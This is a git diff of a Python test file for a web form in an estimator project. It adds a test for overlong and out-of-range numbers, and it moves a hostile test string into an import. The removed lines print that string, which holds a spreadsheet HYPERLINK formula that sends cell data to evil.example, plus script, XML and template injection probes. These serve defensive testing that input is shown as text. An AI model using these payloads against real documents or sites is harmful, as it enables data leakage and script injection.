@@ -19,7 +19,7 @@ from urllib.parse import urlencode
 import pytest
 from starlette.testclient import TestClient
 from typer.testing import CliRunner
-from webform import figures, form_fields
+from webform import HOSTILE, figures, form_fields
 
 from cost_models.kinds import KINDS
 from estimator import api
@@ -32,12 +32,6 @@ from estimator.web.tomlwrite import dumps
 
 ROOT = Path(__file__).resolve().parent.parent
 SEEDS = sorted((ROOT / "seeds").glob("*.toml"))
-HOSTILE = (
-    '=HYPERLINK("http://evil.example/?"&A1,"Click") +1+2 -3+4 @SUM(A1:A9) '
-    "<script>alert('x')</script> <b>bold</b> </w:t></w:r><w:r><w:t>injected &amp; {{ 7*7 }}"
-    " {% raw %}"
-)
-"""The hostile text of the command line's corpus (tests/test_safe_outputs.py)."""
 
 
 @pytest.fixture(scope="module")
@@ -294,6 +288,16 @@ def test_hostile_text_in_every_field_is_shown_as_text(client: TestClient) -> Non
     back = _post(client, fields, download="toml").text
     data = tomllib.loads(back)
     assert data["proposal"]["title"] == HOSTILE and data["activity"][0]["note"] == HOSTILE
+
+
+def test_a_number_too_long_for_any_quantity_is_a_problem_at_its_field(
+    client: TestClient,
+) -> None:
+    page = _post(client, {**BUILT, "activity.0.days": "9" * 5000})
+    assert page.status_code == 200
+    assert "must be a number" in _problems_at(page.text, "activity.0.days")
+    page = _post(client, {**BUILT, "activity.0.count": "1e999999"})
+    assert "out of range" in _problems_at(page.text, "activity.0.count")
 
 
 def test_an_upload_larger_than_a_proposal_may_be_is_refused_with_413(client: TestClient) -> None:
